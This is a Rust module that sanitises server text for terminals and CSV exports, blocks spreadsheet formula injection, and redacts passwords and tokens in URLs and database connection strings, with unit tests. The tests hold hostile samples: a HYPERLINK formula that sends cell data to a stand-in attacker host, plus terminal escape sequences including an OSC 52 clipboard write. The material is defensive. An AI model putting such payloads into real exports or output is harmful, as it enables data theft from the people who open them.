//! Text from servers on its way to a terminal, a log, an error or a CSV file.

use std::borrow::Cow;

fn unsafe_char(c: char) -> bool {
    c.is_control() // C0, DEL and C1, ESC included: no cursor moves, no OSC 52 clipboard writes
        || is_format(c)
        || is_line_separator(c)
}

/// U+2028 LINE SEPARATOR and U+2029 PARAGRAPH SEPARATOR: line breaks to a terminal or a
/// spreadsheet, made spaces like `\n`.
fn is_line_separator(c: char) -> bool {
    matches!(c, '\u{2028}' | '\u{2029}')
}

/// Unicode's format characters (general category Cf): bidi controls (U+061C, U+200E/F,
/// U+202A-E, U+2066-9), zero-width ones (U+200B-D, U+2060-4, U+FEFF), soft hyphen, the
/// invisible operators, tags. Invisible, they can hide or reorder what is shown.
pub fn is_format(c: char) -> bool {
    matches!(c,
        '\u{00AD}'
        | '\u{0600}'..='\u{0605}'
        | '\u{061C}'
        | '\u{06DD}'
        | '\u{070F}'
        | '\u{0890}'..='\u{0891}'
        | '\u{08E2}'
        | '\u{180E}'
        | '\u{200B}'..='\u{200F}'
        | '\u{202A}'..='\u{202E}'
        | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{206F}'
        | '\u{FEFF}'
        | '\u{FFF9}'..='\u{FFFB}'
        | '\u{110BD}'
        | '\u{110CD}'
        | '\u{13430}'..='\u{1343F}'
        | '\u{1BCA0}'..='\u{1BCA3}'
        | '\u{1D173}'..='\u{1D17A}'
        | '\u{E0001}'
        | '\u{E0020}'..='\u{E007F}')
}

/// A character JSON output writes as `\uXXXX` (lossless, yet inert on a terminal): C1
/// controls and format characters, bidi ones included, and the line separators.
pub fn json_escaped(c: char) -> bool {
    ('\u{7F}'..='\u{9F}').contains(&c) || is_format(c) || is_line_separator(c)
}

/// Removes control characters and escape sequences' introducers; line breaks and tabs become
/// spaces. Borrowed when nothing had to change (the common case, and free).
pub fn sanitize(s: &str) -> Cow<'_, str> {
    if !s.chars().any(unsafe_char) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .filter_map(|c| match c {
                '\n' | '\r' | '\t' | '\u{2028}' | '\u{2029}' => Some(' '),
                c if unsafe_char(c) => None,
                c => Some(c),
            })
            .collect(),
    )
}

/// `sanitize` for an owned string (what errors built from server text hold).
pub fn clean(s: String) -> String {
    match sanitize(&s) {
        Cow::Borrowed(_) => s,
        Cow::Owned(o) => o,
    }
}

/// A CSV cell a spreadsheet will not run: sanitised, and a leading `'` before a cell that
/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return (Excel, LibreOffice and Google
/// Sheets read those as a formula). A plain number (`-1500`, `1502500.50`: money columns
/// are written as plain digits) is left as it is, so it stays a number.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    if is_plain_number(s) {
        return Cow::Borrowed(s);
    }
    // Checked before sanitising too: a tab or CR in front is what makes the formula.
    let leading_risk = formula_start(s);
    let clean = sanitize(s);
    if leading_risk || formula_start(&clean) {
        return Cow::Owned(format!("'{clean}"));
    }
    clean
}

/// Whether a spreadsheet may read the cell as a formula: it starts with a tab or a carriage
/// return, or, past any leading whitespace and invisible characters, with `=`, `+`, `-`, `@`
/// or their full-width forms (`＝`, `＋`, `－`, `＠`).
fn formula_start(s: &str) -> bool {
    if s.starts_with(['\t', '\r']) {
        return true;
    }
    s.chars()
        .find(|c| !(c.is_whitespace() || c.is_control() || is_format(*c)))
        .is_some_and(|c| {
            matches!(
                c,
                '=' | '+'
                    | '-'
                    | '@'
                    | '\u{FF1D}'
                    | '\u{FF0B}'
                    | '\u{FF0D}'
                    | '\u{FF20}'
                    | '\u{2212}'
            )
        })
}

/// `-?digits` with at most one `.digits`: a number a spreadsheet reads as a number.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (whole, fraction) = match digits.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// How a CSV file is laid out: plain (`,`, no BOM) or for a spreadsheet whose locale uses
/// the comma for decimals, as Indonesian Excel does (`;` and a UTF-8 byte-order mark, so
/// that the names keep their letters).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CsvStyle {
    pub excel: bool,
}

impl CsvStyle {
    pub const UTF8_BOM: &'static [u8] = b"\xEF\xBB\xBF";

    pub fn delimiter(self) -> u8 {
        if self.excel { b';' } else { b',' }
    }

    /// What goes before the first row.
    pub fn preamble(self) -> &'static [u8] {
        if self.excel { Self::UTF8_BOM } else { b"" }
    }

    /// A cell under `header` in this style: `csv_cell` always; for Excel with an Indonesian
    /// locale also an identifier (`glossary::Kind::Id`) made of digits and letters written
    /// as `="000220196348539"` (the formula's result is that very text: Excel and
    /// LibreOffice both keep its leading zeros and every digit, where a bare number loses
    /// them and a leading `'` shows), and a plain decimal number with a decimal comma
    /// (`1234,56`, which that locale reads as a number `SUM` counts).
    pub fn cell<'a>(self, header: &str, value: &'a str) -> Cow<'a, str> {
        use super::glossary::{Kind, kind_of};
        let safe = csv_cell(value);
        if !self.excel {
            return safe;
        }
        match kind_of(header) {
            Some(Kind::Id)
                if !safe.is_empty() && safe.bytes().all(|b| b.is_ascii_alphanumeric()) =>
            {
                Cow::Owned(format!("=\"{safe}\""))
            }
            Some(Kind::Id) => safe,
            _ if is_plain_number(&safe) && safe.contains('.') => Cow::Owned(safe.replace('.', ",")),
            _ => safe,
        }
    }

    /// A CSV writer in this style over `w` (the preamble is the caller's to write).
    pub fn writer<W: std::io::Write>(self, w: W) -> csv::Writer<W> {
        csv::WriterBuilder::new()
            .delimiter(self.delimiter())
            .from_writer(w)
    }
}

/// A URL fit to show: user-info and query values masked (`https://svc:***@host/p?token=***`).
/// Read as text, not parsed, so that a malformed URL (a bad port, a missing scheme or `:`,
/// spaces) is masked alike: whatever stands before the last `@` of the part before `?` and
/// `#`, back to the `/` before it, is user-info.
pub fn redact_url(u: &str) -> String {
    let (before_fragment, fragment) = match u.split_once('#') {
        Some((a, f)) => (a, Some(f)),
        None => (u, None),
    };
    let (place, query) = match before_fragment.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (before_fragment, None),
    };
    let place = match place.rfind('@') {
        Some(at) => {
            let start = place[..at].rfind('/').map_or(0, |i| i + 1);
            let info = &place[start..at];
            let masked = match info.split_once(':') {
                Some((user, _)) => format!("{user}:***"),
                None => "***".to_string(),
            };
            format!("{}{masked}{}", &place[..start], &place[at..])
        }
        None => place.to_string(),
    };
    let mut out = place;
    if let Some(query) = query {
        let masked: Vec<String> = query
            .split('&')
            .map(|pair| match pair.split_once('=') {
                Some((k, _)) => format!("{k}=***"),
                None => pair.to_string(),
            })
            .collect();
        out.push('?');
        out.push_str(&masked.join("&"));
    }
    if let Some(f) = fragment {
        out.push('#');
        out.push_str(f);
    }
    sanitize(&out).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn excel_csv_is_semicolons_after_a_byte_order_mark_and_plain_csv_is_commas() {
        let excel = CsvStyle { excel: true };
        let plain = CsvStyle { excel: false };
        assert_eq!(excel.delimiter(), b';');
        assert_eq!(excel.preamble(), b"\xEF\xBB\xBF");
        assert_eq!(plain.delimiter(), b',');
        assert_eq!(plain.preamble(), b"");
    }

    #[test]
    fn formulas_are_quoted_and_plain_text_is_not() {
        let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
        assert_eq!(csv_cell(evil), format!("'{evil}"));
        for start in ["+1", "-1+2", "@SUM(A1)", "\tx", "\r=1"] {
            assert!(csv_cell(start).starts_with('\''), "{start:?}");
        }
        assert_eq!(
            csv_cell("\t=1"),
            "' =1",
            "the tab is made a space, the quote stays"
        );
        assert_eq!(
            csv_cell("\u{1b}=1"),
            "'=1",
            "an escape does not hide a formula"
        );
        assert!(matches!(csv_cell("PT MAJU"), Cow::Borrowed("PT MAJU")));
        assert_eq!(csv_cell("a=b"), "a=b");
        for number in ["-1500", "1502500.50", "0", "-0.5"] {
            assert!(
                matches!(csv_cell(number), Cow::Borrowed(_)),
                "{number} stays a number"
            );
        }
        for not_number in ["-1+2", "-", "-.5", "-1.", "-1e5", "-1,5"] {
            assert!(csv_cell(not_number).starts_with('\''), "{not_number}");
        }
        assert_eq!(csv_cell(""), "");
        assert_eq!(csv_cell("BUDI\u{202E}"), "BUDI");
    }

    #[test]
    fn urls_lose_their_secrets() {
        assert_eq!(
            redact_url("https://svc:pw@host:8443/api?token=abc&x=1#f"),
            "https://svc:***@host:8443/api?token=***&x=***#f"
        );
        assert_eq!(redact_url("https://tok@host"), "https://***@host");
        assert_eq!(redact_url("http://host/p"), "http://host/p");
        assert_eq!(redact_url("http://host?flag"), "http://host?flag");
        assert_eq!(redact_url("not a url"), "not a url");
        // Malformed URLs keep no secret either.
        assert_eq!(
            redact_url("https://svc:pw@host:notaport/x"),
            "https://svc:***@host:notaport/x"
        );
        assert_eq!(redact_url("svc:pw@host/x?k=v"), "svc:***@host/x?k=***");
        assert_eq!(redact_url("http//svc:pw@host"), "http//svc:***@host");
        assert_eq!(redact_url("ht tp://u:p w@h"), "ht tp://u:***@h");
        assert_eq!(redact_url("https://tok@@host"), "https://***@host");
    }

    #[test]
    fn bidi_controls_are_removed() {
        for c in [
            '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
            '\u{2068}', '\u{2069}', '\u{200E}', '\u{200F}',
        ] {
            assert_eq!(sanitize(&format!("a{c}b")), "ab", "{c:?}");
        }
        assert_eq!(clean("x\u{7}y".to_string()), "xy");
    }

    #[test]
    fn format_characters_and_line_separators_are_removed() {
        for c in [
            '\u{061C}',
            '\u{200B}',
            '\u{200C}',
            '\u{200D}',
            '\u{2060}',
            '\u{FEFF}',
            '\u{00AD}',
            '\u{206A}',
            '\u{E0041}',
            '\u{180E}',
        ] {
            assert_eq!(sanitize(&format!("a{c}b")), "ab", "{c:?}");
        }
        assert_eq!(sanitize("a\u{2028}b\u{2029}c"), "a b c");
        assert_eq!(sanitize("a\u{85}b"), "ab", "C1 NEL");
        assert!(matches!(sanitize("Bu Siti Ésa ½"), Cow::Borrowed(_)));
        assert!(json_escaped('\u{9B}') && json_escaped('\u{202E}') && json_escaped('\u{2028}'));
        assert!(!json_escaped('é') && !json_escaped('\n'));
    }

    #[test]
    fn formulas_behind_whitespace_or_in_full_width_are_quoted() {
        for cell in [
            " =1+1",
            "  @SUM(A1)",
            "\u{3000}=1",
            "＝HYPERLINK(\"x\")",
            "＋1",
            "－1",
            "＠x",
            "\u{2028}=1",
            "\u{200B}=1",
            "\u{00A0}+1",
            " -1+2",
        ] {
            assert!(csv_cell(cell).starts_with('\''), "{cell:?}");
        }
        assert_eq!(csv_cell("\u{2028}=1"), "' =1");
        assert_eq!(csv_cell("a =1"), "a =1");
        assert_eq!(csv_cell("PT ＝ MAJU"), "PT ＝ MAJU");
    }

    #[test]
    fn escapes_cannot_reach_the_terminal() {
        assert_eq!(
            sanitize("BUDI\u{1b}]52;c;ZXZpbA==\u{7}SANTOSO"),
            "BUDI]52;c;ZXZpbA==SANTOSO"
        );
        assert_eq!(sanitize("a\u{1b}[2Jb"), "a[2Jb");
        assert_eq!(sanitize("line\nbreak\u{202E}x"), "line breakx");
        assert!(matches!(sanitize("plain"), Cow::Borrowed(_)));
    }
}

#[cfg(test)]
mod excel_tests {
    use super::*;

    #[test]
    fn excel_cells_keep_identifiers_as_text_and_write_decimals_with_a_comma() {
        let excel = CsvStyle { excel: true };
        let plain = CsvStyle::default();
        assert_eq!(
            excel.cell("account_no", "000220196348539"),
            "=\"000220196348539\""
        );
        assert_eq!(
            excel.cell("va_number", "8808123412341234"),
            "=\"8808123412341234\""
        );
        let zeros = "0".repeat(64);
        assert_eq!(excel.cell("prev_sha256", &zeros), format!("=\"{zeros}\""));
        assert_eq!(excel.cell("bill_amount", "771016312.56"), "771016312,56");
        assert_eq!(excel.cell("count", "12"), "12");
        assert_eq!(excel.cell("name", "PT MAJU"), "PT MAJU");
        // A formula is still guarded, identifiers or not.
        assert_eq!(excel.cell("account_no", "=1+1"), "'=1+1");
        // Plain CSV is untouched.
        assert_eq!(
            plain.cell("account_no", "000220196348539"),
            "000220196348539"
        );
        assert_eq!(plain.cell("bill_amount", "771016312.56"), "771016312.56");
    }
}

/// A PostgreSQL connection string as it may be shown: a URL's password (user-info or a
/// `password` parameter) and a key=value string's `password` masked; the rest (host,
/// database, `sslmode`) kept, since it says where the ledger is.
pub fn redact_database_url(u: &str) -> String {
    let u = u.trim();
    if u.starts_with("postgres://") || u.starts_with("postgresql://") {
        let (before, query) = match u.split_once('?') {
            Some((b, q)) => (b, Some(q)),
            None => (u, None),
        };
        let scheme_end = before.find("://").map_or(0, |i| i + 3);
        let mut out = before[..scheme_end].to_string();
        let rest = &before[scheme_end..];
        let authority_end = rest.find('/').unwrap_or(rest.len());
        let (authority, path) = rest.split_at(authority_end);
        match authority.rfind('@') {
            Some(at) => {
                let info = &authority[..at];
                match info.split_once(':') {
                    Some((user, _)) => out.push_str(&format!("{user}:***")),
                    None => out.push_str(info),
                }
                out.push_str(&authority[at..]);
            }
            None => out.push_str(authority),
        }
        out.push_str(path);
        if let Some(q) = query {
            let pairs: Vec<String> = q
                .split('&')
                .map(|pair| match pair.split_once('=') {
                    Some((k, _)) if k.eq_ignore_ascii_case("password") => format!("{k}=***"),
                    _ => pair.to_string(),
                })
                .collect();
            out.push('?');
            out.push_str(&pairs.join("&"));
        }
        out
    } else {
        // key=value pairs; a quoted value may hold spaces.
        let mut out = String::new();
        let mut rest = u;
        while let Some(i) = rest.find("password") {
            let after = rest[i + 8..].trim_start();
            if let Some(value) = after.strip_prefix('=') {
                out.push_str(&rest[..i]);
                out.push_str("password=***");
                let value = value.trim_start();
                let end = if let Some(v) = value.strip_prefix('\'') {
                    let mut j = 0;
                    let b = v.as_bytes();
                    while j < b.len() && b[j] != b'\'' {
                        j += if b[j] == b'\\' { 2 } else { 1 };
                    }
                    (j + 2).min(value.len())
                } else {
                    value.find(char::is_whitespace).unwrap_or(value.len())
                };
                rest = &value[end..];
            } else {
                out.push_str(&rest[..i + 8]);
                rest = &rest[i + 8..];
            }
        }
        out.push_str(rest);
        out
    }
}

#[cfg(test)]
mod database_url_tests {
    use super::redact_database_url as r;

    #[test]
    fn a_database_password_never_shows_and_the_place_does() {
        assert_eq!(
            r(
                "postgresql://desk_017:s3cret@db.example:5432/ledger?sslmode=verify-full&password=p2"
            ),
            "postgresql://desk_017:***@db.example:5432/ledger?sslmode=verify-full&password=***"
        );
        assert_eq!(r("postgres://desk@db/ledger"), "postgres://desk@db/ledger");
        assert_eq!(
            r("host=db user=desk password='a b\\'c' sslmode=require"),
            "host=db user=desk password=*** sslmode=require"
        );
        assert_eq!(r("host=db password=s3cret"), "host=db password=***");
    }
}
